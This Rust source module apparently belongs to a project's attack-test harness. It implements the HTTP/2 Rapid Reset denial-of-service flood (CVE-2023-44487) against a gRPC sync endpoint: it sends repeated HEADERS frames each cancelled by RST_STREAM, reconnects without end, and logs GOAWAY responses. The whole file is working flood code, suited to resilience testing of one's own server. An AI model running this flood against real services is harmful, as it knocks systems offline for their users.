//! Requests that are taken back at once: CVE-2023-44487. Frames are written as they are, because no
//! client library sends what is taken back before it is sent.

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpStream, tcp::OwnedReadHalf},
};

use super::attacker::tell;

/// Requests of one write.
const AT_ONCE: u32 = 64;
/// The highest id of a stream.
const ID_MAX: u32 = i32::MAX.cast_unsigned();
/// Types of frames, and flags.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const END_STREAM_AND_HEADERS: u8 = 0x5;
/// Codes of errors.
const CANCEL: u32 = 8;
const ENHANCE_YOUR_CALM: u32 = 11;

/// Connects, asks and takes back until it is thrown out, and comes again.
pub(super) async fn flood(address: String) {
    loop {
        if let Ok(connection) = TcpStream::connect(&address).await {
            let (hears, mut says) = connection.into_split();
            let hearing = tokio::spawn(hear(hears));
            let mut said = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
            said.extend(frame(SETTINGS, 0, 0, &[]));
            let mut id = 1;
            while says.write_all(&said).await.is_ok() && id < ID_MAX {
                said.clear();
                for _ in 0..AT_ONCE {
                    said.extend(frame(HEADERS, END_STREAM_AND_HEADERS, id, &head()));
                    said.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
                    id += 2;
                }
            }
            let _ = hearing.await;
        }
        tokio::task::yield_now().await;
    }
}

/// Reads frames to the end of the connection, and tells why it ended.
async fn hear(mut from: OwnedReadHalf) {
    let mut payload = Vec::new();
    let mut start = [0; 9];
    while from.read_exact(&mut start).await.is_ok() {
        let [a, b, c, kind, ..] = start;
        let length = u32::from_be_bytes([0, a, b, c]);
        payload.resize(usize::try_from(length).unwrap_or(0), 0);
        if from.read_exact(&mut payload).await.is_err() {
            return;
        }
        let code = payload.get(4..8).and_then(|code| code.first_chunk());
        if kind == GOAWAY
            && let Some(code) = code
        {
            match u32::from_be_bytes(*code) {
                ENHANCE_YOUR_CALM => tell("ENHANCE_YOUR_CALM"),
                other => tell(&format!("GOAWAY {other}")),
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a call, by HPACK's static table and literals.
fn head() -> Vec<u8> {
    // POST by http.
    let mut block = vec![0x83, 0x86];
    let mut literal = |name: &[u8], value: &str| {
        block.extend(name);
        block.push(u8::try_from(value.len()).unwrap_or(0));
        block.extend(value.as_bytes());
    };
    literal(&[0x04], "/askel.v1.SyncService/Sync");
    literal(&[0x01], "askel");
    literal(&[0x0f, 0x10], "application/grpc");
    block
}
